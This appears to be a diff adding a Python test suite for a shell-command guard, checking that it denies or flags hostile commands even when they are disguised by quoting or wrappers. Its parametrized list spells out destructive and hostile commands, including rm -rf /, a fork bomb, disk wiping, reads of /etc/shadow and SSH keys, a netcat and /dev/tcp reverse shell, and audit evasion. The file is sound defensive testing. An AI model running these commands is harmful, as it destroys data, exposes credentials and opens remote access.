@@ -1,0 +1,132 @@
+"""The guard asks, blocks and lets through, whatever the disguise (SSH-5, T41)."""
+
+import shlex
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from app.core.command_guard import Judgement, judge
+from app.core.command_line import parse_command
+from app.core.guard_rules import GuardRule, guard_rules, read_guard
+from app.core.policy import Effect
+from app.services.profiles import load
+from tests.support.corpus import corpus
+
+pytestmark = pytest.mark.requirement("SSH-5", "T41")
+
+RULES = load().guard
+HOSTILE, HARMLESS = corpus("hostile"), corpus("harmless")
+RANK = {Effect.ALLOW: 0, Effect.REVIEW: 1, Effect.DENY: 2}
+
+
+def said(command: str) -> Judgement:
+    return judge(parse_command(command), RULES)
+
+
+@pytest.mark.parametrize("rule", RULES.rules, ids=lambda rule: rule.name)
+def test_a_rule_does_what_its_examples_say(rule: GuardRule) -> None:
+    alone = guard_rules((rule,))
+    assert rule.reason.endswith(".")
+    assert {one.matches for one in rule.examples} == {True, False}
+    wrong = [
+        (one.command, one.matches)
+        for one in rule.examples
+        if (judge(parse_command(one.command), alone).rule == rule.name) is not one.matches
+    ]
+    assert wrong == []
+
+
+def test_it_asks_or_blocks_for_all_that_destroys_or_is_hostile() -> None:
+    assert len(HOSTILE) >= 150
+    assert [one for one in HOSTILE if said(one).effect is Effect.ALLOW] == []
+
+
+def test_it_asks_for_at_most_one_in_fifty_of_the_harmless() -> None:
+    asked = [one for one in HARMLESS if said(one).effect is not Effect.ALLOW]
+    assert len(HARMLESS) >= 150
+    assert len(asked) * 50 <= len(HARMLESS), asked
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf /", "sudo rm -r -f //", "cd / && rm -rf *", ":(){ :|:& };:", "mkfs.xfs /dev/sdb",
+        "dd if=x of=/dev/sda", "cat /etc/sh?dow", "bash -c 'cat /etc/shadow'", "nc -e /bin/sh h 1",
+        "bash -i >& /dev/tcp/10.0.0.9/1 0>&1", "env LD_PRELOAD=/x ls", "unset HISTFILE",
+        "cat ~/.ssh/id_rsa", "systemctl stop auditd", "find / -exec cat /etc/shadow \\;",
+    ],
+)  # fmt: skip
+def test_what_is_hostile_is_blocked(command: str) -> None:
+    assert said(command).effect is Effect.DENY
+    assert said(command).tags & {"hostile"}
+
+
+def test_what_cant_be_explained_asks_and_says_why() -> None:
+    judgement = said("$X y")
+    assert (judgement.effect, judgement.rule) == (Effect.REVIEW, "unexplained")
+    assert "not written out" in judgement.reasons[0]
+
+
+def test_without_rules_only_what_cant_be_explained_asks() -> None:
+    none = read_guard("")
+    assert judge(parse_command("rm -rf /"), none).effect is Effect.ALLOW
+    assert judge(parse_command("eval x"), none).effect is Effect.REVIEW
+
+
+def test_own_rules_come_beside_the_bundled_ones() -> None:
+    own = read_guard(
+        '[[rule]]\nname = "deploys"\neffect = "review"\nreason = "It deploys."\n'
+        'programs = ["deploy"]\nsub = ["now"]\n'
+    )
+    rules = RULES.with_more(own)
+    assert judge(parse_command("sudo deploy --fast now"), rules).rule == "deploys"
+    assert judge(parse_command("deploy plan"), rules).effect is Effect.ALLOW
+    assert judge(parse_command("rm x"), rules).effect is Effect.REVIEW
+
+
+# --- properties ----------------------------------------------------------------------------------
+
+WRAPPERS = (
+    "sudo {}", "sudo -u root -- {}", "env {}", "env A=b {}", "nohup {}", "timeout 5 {}",
+    "nice -n 5 {}", "command {}", "setsid {}", "stdbuf -oL {}", "( {} )", "{{ {}; }}", "ls; {}",
+    "true && {}", "{} 2>/dev/null", "\n{}\n", "if true; then {}; fi",
+)  # fmt: skip
+SIMPLE = [
+    one for one in (*HOSTILE, *HARMLESS) if not set(one) & set("'\"\\$`(){}[]<>|&;!#~*?\n=\r{},")
+]
+
+
+def quoted(word: str, how: int) -> str:
+    if how == 0:
+        return word
+    if how == 1:
+        return f"'{word}'"
+    if how == 2:
+        return f'"{word}"'
+    if how == 3:
+        return "".join(f"\\{sign}" for sign in word)
+    return f"{word[:1]}''{word[1:]}"
+
+
+@given(st.sampled_from(SIMPLE), st.data())
+def test_other_quotes_and_spaces_never_make_it_milder(command: str, data: st.DataObject) -> None:
+    words = command.split()
+    hows = data.draw(st.lists(st.integers(0, 4), min_size=len(words), max_size=len(words)))
+    gap = data.draw(st.sampled_from([" ", "  ", "\t", " \\\n "]))
+    text = gap.join(quoted(word, how) for word, how in zip(words, hows, strict=True))
+    assert shlex.split(text.replace("\\\n", "")) == words
+    assert RANK[said(text).effect] >= RANK[said(command).effect], text
+
+
+@given(
+    st.sampled_from([one for one in (*HOSTILE, *HARMLESS) if "\n" not in one and "#" not in one]),
+    st.sampled_from(WRAPPERS),
+)
+def test_a_wrapper_or_a_neighbour_never_makes_it_milder(command: str, wrapper: str) -> None:
+    assert RANK[said(wrapper.format(command)).effect] >= min(RANK[said(command).effect], 1)
+
+
+@given(st.text())
+def test_it_is_total(text: str) -> None:
+    assert said(text).effect in Effect
